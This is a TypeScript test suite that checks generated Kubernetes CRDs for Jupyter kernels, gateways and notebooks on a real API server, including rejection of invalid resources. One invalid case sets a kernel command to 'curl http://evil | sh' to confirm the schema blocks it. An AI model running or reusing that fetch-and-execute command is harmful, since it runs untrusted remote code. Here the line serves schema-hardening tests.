// The generated CRDs on a real API server: they install, document themselves, accept SEED's
// examples unchanged and reject invalid custom resources with an error naming the field.
import { expect } from "chai";
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { freshNamespace, kubectl, kubectlOk, repoRoot } from "../../ci/test/cluster.ts";
import { API_VERSION, GROUP, KINDS } from "./api/index.ts";
import { CRD_DIR } from "./generate.ts";

type Obj = { [key: string]: any };

const KERNEL_ID = "219cfd49-89ad-428c-8e0d-3e61e15d79a7";

/** Valid objects of each kind; each invalid case breaks exactly one thing in one of them. */
const valid: Record<string, () => Obj> = {
  JupyterKernel: () => ({ spec: { kernelId: KERNEL_ID, kernelSpec: { name: "python-kubernetes" }, gpus: 1, portRange: "40000..41000", responseAddress: "10.0.0.1:8877" } }),
  JupyterKernelSpec: () => ({ spec: { language: "Python", image: "ghcr.io/example/kernel-py:1.0", gpu: { count: 1, max: 2 } } }),
  JupyterKernelTemplate: () => ({ spec: { template: { spec: { containers: [{ name: "kernel" }] } } } }),
  JupyterGateway: () => ({ spec: { kernels: ["python-kubernetes"], cullIdleTimeout: 3600, portRange: "50000..65535" } }),
  JupyterNotebook: () => ({ spec: { gateway: { name: "gw" }, auth: { mode: "token" } } }),
};

function manifest(kind: string, name: string, body: Obj): Obj {
  return { apiVersion: API_VERSION, kind, metadata: { name }, ...body };
}

interface InvalidCase {
  what: string;
  kind: string;
  /** Mutates a copy of the kind's valid object. */
  change: (o: Obj) => void;
  /** The field path the API server's error must name, as `<path>:` (or the whole phrase when it has a colon). */
  field: string;
  /** For CEL rules: the rule's message, which must appear too. */
  message?: string;
  /** Applied first (unchanged valid object), so `change` tests an update (transition rules). */
  update?: boolean;
  /** The change is a status update through the status subresource. */
  status?: Obj;
}

const cases: InvalidCase[] = [
  // JupyterKernel
  { what: "kernelId missing, and no template to carry it", kind: "JupyterKernel", field: "spec", change: (o) => { delete o.spec.kernelId; }, message: "spec.kernelId is required unless spec.template's kernel container sets KERNEL_ID" },
  { what: "kernelId not a UUID", kind: "JupyterKernel", field: "spec.kernelId", change: (o) => { o.spec.kernelId = "kernel-1"; } },
  { what: "kernelId changed on update", kind: "JupyterKernel", field: "spec.kernelId", update: true, change: (o) => { o.spec.kernelId = "00000000-0000-0000-0000-000000000000"; }, message: "kernelId is immutable" },
  { what: "gpus negative", kind: "JupyterKernel", field: "spec.gpus", change: (o) => { o.spec.gpus = -1; } },
  { what: "connectionMode not Gateway or Direct", kind: "JupyterKernel", field: "spec.connectionMode", change: (o) => { o.spec.connectionMode = "Callback"; } },
  { what: "gpus a word", kind: "JupyterKernel", field: "spec.gpus", change: (o) => { o.spec.gpus = "two"; } },
  { what: "gpus fractional", kind: "JupyterKernel", field: "spec.gpus", change: (o) => { o.spec.gpus = 1.5; } },
  { what: "no template, kernelSpec or kernelTemplate", kind: "JupyterKernel", field: "spec", change: (o) => { delete o.spec.kernelSpec; }, message: "at least one of spec.template, spec.kernelSpec or spec.kernelTemplate is required" },
  { what: "portRange reversed", kind: "JupyterKernel", field: "spec.portRange", change: (o) => { o.spec.portRange = "41000..40000"; }, message: "portRange must be lo..hi with lo <= hi <= 65535" },
  { what: "portRange malformed", kind: "JupyterKernel", field: "spec.portRange", change: (o) => { o.spec.portRange = "40000-41000"; } },
  { what: "responseAddress without port", kind: "JupyterKernel", field: "spec.responseAddress", change: (o) => { o.spec.responseAddress = "gateway"; } },
  { what: "kernelSpec name not a DNS name", kind: "JupyterKernel", field: "spec.kernelSpec.name", change: (o) => { o.spec.kernelSpec.name = "Python_3"; } },
  { what: "kernelTemplate without name", kind: "JupyterKernel", field: "spec.kernelTemplate.name", change: (o) => { o.spec.kernelTemplate = { namespace: "default" }; } },
  { what: "env entry without name", kind: "JupyterKernel", field: ".spec.env: element 0", change: (o) => { o.spec.env = [{ value: "x" }]; } },
  { what: "env names repeated", kind: "JupyterKernel", field: ".spec.env: duplicate entries", change: (o) => { o.spec.env = [{ name: "KERNEL_A", value: "1" }, { name: "KERNEL_A", value: "2" }]; } },
  { what: "inline template without containers", kind: "JupyterKernel", field: "spec.template.spec.containers", change: (o) => { o.spec.template = { spec: { restartPolicy: "Never" } }; } },
  { what: "status.phase not a phase", kind: "JupyterKernel", field: "status.phase", change: () => {}, status: { phase: "Exploded" } },
  { what: "status.reason not CamelCase", kind: "JupyterKernel", field: "status.reason", change: () => {}, status: { phase: "Failed", reason: "pod failed" } },
  { what: "condition status not True/False/Unknown", kind: "JupyterKernel", field: "status.conditions[0].status", change: () => {},
    status: { conditions: [{ type: "Ready", status: "Maybe", reason: "PodReady", message: "", lastTransitionTime: "2026-01-01T00:00:00Z" }] } },
  { what: "both a gateway and direct mode", kind: "JupyterNotebook", field: "spec", change: (o) => { o.spec.direct = {}; }, message: "a notebook uses either a gateway or direct mode, not both" },
  { what: "direct.cullInterval zero", kind: "JupyterNotebook", field: "spec.direct.cullInterval", change: (o) => { delete o.spec.gateway; o.spec.direct = { cullInterval: 0 }; } },
  { what: "condition without reason", kind: "JupyterNotebook", field: "status.conditions[0].reason", change: () => {},
    status: { conditions: [{ type: "Ready", status: "True", message: "", lastTransitionTime: "2026-01-01T00:00:00Z" }] } },
  // JupyterKernelSpec
  { what: "image missing", kind: "JupyterKernelSpec", field: "spec.image", change: (o) => { delete o.spec.image; } },
  { what: "language empty", kind: "JupyterKernelSpec", field: "spec.language", change: (o) => { o.spec.language = ""; } },
  { what: "gpu.count negative", kind: "JupyterKernelSpec", field: "spec.gpu.count", change: (o) => { o.spec.gpu.count = -1; } },
  { what: "gpu.max below count", kind: "JupyterKernelSpec", field: "spec.gpu.max", change: (o) => { o.spec.gpu = { count: 4, max: 2 }; }, message: "max must be greater than or equal to count" },
  { what: "gpu.resourceName without a domain", kind: "JupyterKernelSpec", field: "spec.gpu.resourceName", change: (o) => { o.spec.gpu.resourceName = "gpu"; } },
  { what: "className not a process proxy the gateway runs", kind: "JupyterKernelSpec", field: "spec.className", change: (o) => { o.spec.className = "enterprise_gateway.services.processproxies.k8s.KubernetesProcessProxy"; }, message: "the gateway runs no other process proxy" },
  { what: "command running something other than the launcher in the gateway", kind: "JupyterKernelSpec", field: "spec.command", change: (o) => { o.spec.command = ["sh", "-c", "curl http://evil | sh"]; }, message: "command may only name the kernel launcher" },
  { what: "command naming python without our launcher module", kind: "JupyterKernelSpec", field: "spec.command", change: (o) => { o.spec.command = ["python", "-c", "import os"]; }, message: "command may only name the kernel launcher" },
  { what: "allowedImages with an empty pattern", kind: "JupyterKernelSpec", field: "spec.allowedImages[0]", change: (o) => { o.spec.allowedImages = [""]; } },
  { what: "command a string, not a list", kind: "JupyterKernelSpec", field: "spec.command", change: (o) => { o.spec.command = "python -m ipykernel"; } },
  { what: "cullIdleTimeout above a year", kind: "JupyterKernelSpec", field: "spec.cullIdleTimeout", change: (o) => { o.spec.cullIdleTimeout = 99_999_999; } },
  { what: "resources.limits.cpu not a quantity", kind: "JupyterKernelSpec", field: "spec.resources.limits.cpu", change: (o) => { o.spec.resources = { limits: { cpu: "lots" } }; } },
  { what: "template reference without name", kind: "JupyterKernelSpec", field: "spec.template.name", change: (o) => { o.spec.template = { namespace: "default" }; } },
  // JupyterKernelTemplate
  { what: "template missing", kind: "JupyterKernelTemplate", field: "spec.template", change: (o) => { delete o.spec.template; } },
  { what: "spec missing", kind: "JupyterKernelTemplate", field: "spec", change: (o) => { delete o.spec; } },
  { what: "container without name", kind: "JupyterKernelTemplate", field: "spec.template.spec.containers[0].name", change: (o) => { o.spec.template.spec.containers = [{ image: "x" }]; } },
  // JupyterGateway
  { what: "logLevel not a level", kind: "JupyterGateway", field: "spec.logLevel", change: (o) => { o.spec.logLevel = "LOUD"; } },
  { what: "portRange spans under 1000 ports", kind: "JupyterGateway", field: "spec.portRange", change: (o) => { o.spec.portRange = "40000..40500"; }, message: "spanning at least 1000 ports" },
  { what: "port above 65535", kind: "JupyterGateway", field: "spec.port", change: (o) => { o.spec.port = 70000; } },
  { what: "port equals responsePort", kind: "JupyterGateway", field: "spec.responsePort", change: (o) => { o.spec.port = 8877; o.spec.responsePort = 8877; }, message: "port and responsePort must differ" },
  { what: "defaultKernel not among kernels", kind: "JupyterGateway", field: "spec.defaultKernel", change: (o) => { o.spec.defaultKernel = "r-kernel"; }, message: "defaultKernel must be one of kernels" },
  { what: "allowedNamespaces with a namespace that cannot exist", kind: "JupyterGateway", field: "spec.allowedNamespaces[0]", change: (o) => { o.spec.allowedNamespaces = ["Team_B"]; } },
  { what: "kernels repeated", kind: "JupyterGateway", field: ".spec.kernels: duplicate entries", change: (o) => { o.spec.kernels = ["a", "a"]; } },
  { what: "cullIdleTimeout a duration string", kind: "JupyterGateway", field: "spec.cullIdleTimeout", change: (o) => { o.spec.cullIdleTimeout = "1h"; } },
  { what: "cullInterval zero", kind: "JupyterGateway", field: "spec.cullInterval", change: (o) => { o.spec.cullInterval = 0; } },
  { what: "misspelt field (strict field validation)", kind: "JupyterGateway", field: ".spec.cullIdelTimeout: field not declared in schema", change: (o) => { o.spec.cullIdelTimeout = 10; } },
  { what: "tolerations an object", kind: "JupyterGateway", field: "spec.tolerations", change: (o) => { o.spec.tolerations = { key: "gpu" }; } },
  // JupyterNotebook
  { what: "auth.mode not token/disable", kind: "JupyterNotebook", field: "spec.auth.mode", change: (o) => { o.spec.auth.mode = "password"; } },
  { what: "auth.secretName with auth disabled", kind: "JupyterNotebook", field: "spec.auth.secretName", change: (o) => { o.spec.auth = { mode: "disable", secretName: "tok" }; }, message: "secretName needs mode token" },
  { what: "gateway.namespace not a namespace name", kind: "JupyterNotebook", field: "spec.gateway.namespace", change: (o) => { o.spec.gateway.namespace = "Not_A_Namespace"; } },
  { what: "port zero", kind: "JupyterNotebook", field: "spec.port", change: (o) => { o.spec.port = 0; } },
  { what: "object name not a DNS name", kind: "JupyterNotebook", field: "metadata.name", change: (o) => { o.metadata.name = "Bad_Name"; } },
];

/** kubectl apply with kubectl's default (strict) field validation: server-side, so the API server decides. */
function apply(ns: string, obj: Obj) {
  return kubectl(["apply", "--server-side", "--field-manager=schema-test", "-n", ns, "-f", "-"], JSON.stringify(obj));
}

describe("generated CRDs on a real API server", function () {
  this.timeout(180_000);
  let ns: string;

  before(async () => {
    await kubectlOk(["apply", "--server-side", "--force-conflicts", "-f", join(repoRoot, CRD_DIR)]);
    await kubectlOk(["wait", "--for", "condition=Established", "--timeout", "60s", ...KINDS.map((k) => `crd/${k.plural}.${GROUP}`)]);
    ns = await freshNamespace("schema");
  });
  after(async () => { if (ns) await kubectl(["delete", "namespace", ns, "--wait=false"]); });

  it("installs all five CRDs, Established, with status subresource, short names and category jupyter", async () => {
    for (const k of KINDS) {
      const crd = JSON.parse(await kubectlOk(["get", `crd/${k.plural}.${GROUP}`, "-o", "json"]));
      expect(crd.status.conditions.find((c: Obj) => c.type === "Established")?.status, k.kind).to.equal("True");
      expect(crd.status.conditions.find((c: Obj) => c.type === "NonStructuralSchema"), k.kind).to.equal(undefined);
      expect(crd.spec.names.shortNames).to.deep.equal(k.shortNames);
      expect(crd.spec.names.categories).to.deep.equal(["jupyter"]);
      expect(crd.spec.versions[0].subresources).to.deep.equal({ status: {} });
    }
  });

  it("kubectl explain prints our descriptions", async () => {
    const out = await kubectlOk(["explain", "jupyterkernelspec.spec"]);
    expect(out).to.include("Desired state of a JupyterKernelSpec.");
    expect(out).to.match(/gpu\s+<Object>\s+GPUs \(or another extended resource\) for each kernel/);
    const gpu = await kubectlOk(["explain", "jupyterkernelspec.spec.gpu.resourceName"]);
    expect(gpu).to.include("nvidia.com/mig-1g.10gb");
  });

  it("every example manifest applies cleanly (no unknown-field errors or warnings) and `kubectl get jupyter` lists them", async () => {
    const files = ["examples/elastic", "examples/elastic-with-custom-kernels"].flatMap((d) =>
      readdirSync(join(repoRoot, d)).filter((f) => f.endsWith(".yaml")).map((f) => join(repoRoot, d, f)));
    expect(files.length).to.be.greaterThanOrEqual(5);
    for (const f of files) {
      const r = await kubectl(["apply", "--server-side", "--field-manager=schema-test", "-n", ns, "-f", f]);
      expect(r.code, `${f}: ${r.stderr}`).to.equal(0);
      expect(r.stderr, f).not.to.match(/warning|unknown field/i);
    }
    const listed = await kubectlOk(["get", "jupyter", "-n", ns, "-o", "name"]);
    for (const name of ["jupytergateway-elastic", "jupyternotebook-elastic", "python-kubernetes", "jupyterkerneltemplate-elastic-with-custom-kernels"]) {
      expect(listed).to.include(`/${name}\n`);
    }
    // SEED's template puts labels directly under metadata: kept, not pruned.
    const jkt = JSON.parse(await kubectlOk(["get", "jkt", "jupyterkerneltemplate-elastic-with-custom-kernels", "-n", ns, "-o", "json"]));
    expect(jkt.spec.template.metadata).to.deep.equal({ app: "enterprise-gateway", component: "kernel" });
    const seedSpec = readFileSync(join(repoRoot, "examples/elastic-with-custom-kernels/kubeflow.tkestack.io_v1alpha1_jupyterkernelspec.yaml"), "utf8");
    expect(seedSpec).to.include("kubeflow-launcher");
    const jks = JSON.parse(await kubectlOk(["get", "jks", "python-kubernetes", "-n", ns, "-o", "json"]));
    expect(jks.spec.command[0]).to.equal("kubeflow-launcher");
  });

  it("prints the kernel's phase, node and GPUs as columns", async () => {
    await kubectlOk(["apply", "--server-side", "-n", ns, "-f", "-"], JSON.stringify(manifest("JupyterKernel", "columns", valid.JupyterKernel!())));
    await kubectlOk(["patch", "jk", "columns", "-n", ns, "--subresource=status", "--type=merge", "-p",
      JSON.stringify({ status: { phase: "Running", nodeName: "gpu-node-0", gpus: 2 } })]);
    const table = await kubectlOk(["get", "jk", "columns", "-n", ns]);
    expect(table).to.match(/NAME\s+PHASE\s+REASON\s+QUEUE\s+NODE\s+GPUS\s+AGE/);
    expect(table).to.match(/columns\s+Running\s+gpu-node-0\s+2\s+/);
    // A KAI fraction: GPUs is a number, not an integer.
    await kubectlOk(["patch", "jk", "columns", "-n", ns, "--subresource=status", "--type=merge", "-p", JSON.stringify({ status: { gpus: 0.5, gpuUsage: { "nvidia.com/gpu": 0.5 } } })]);
    expect(await kubectlOk(["get", "jk", "columns", "-n", ns])).to.match(/gpu-node-0\s+0\.5\s+/);
  });

  it("the valid base objects are accepted (so each case below fails for its one change)", async () => {
    for (const [kind, make] of Object.entries(valid)) {
      const r = await apply(ns, manifest(kind, `valid-${kind.toLowerCase()}`, make()));
      expect(r.code, `${kind}: ${r.stderr}`).to.equal(0);
    }
  });

  describe(`rejects ${cases.length} invalid custom resources, naming the field`, () => {
    cases.forEach((c, i) => {
      it(`${c.kind}: ${c.what} -> ${c.field}`, async () => {
        const name = `invalid-${i}`;
        const base = manifest(c.kind, name, valid[c.kind]!());
        if (c.update || c.status) {
          const first = await apply(ns, base);
          expect(first.code, first.stderr).to.equal(0);
        }
        let r;
        if (c.status) {
          r = await kubectl(["patch", c.kind.toLowerCase(), name, "-n", ns, "--subresource=status", "--type=merge", "-p", JSON.stringify({ status: c.status })]);
        } else {
          const bad = structuredClone(base);
          c.change(bad);
          r = await apply(ns, bad);
        }
        expect(r.code, `accepted: ${r.stdout}`).to.not.equal(0);
        expect(r.stderr, r.stderr).to.include(c.field.includes(":") ? c.field : `${c.field}:`);
        if (c.message) expect(r.stderr).to.include(c.message);
      });
    });
  });
});
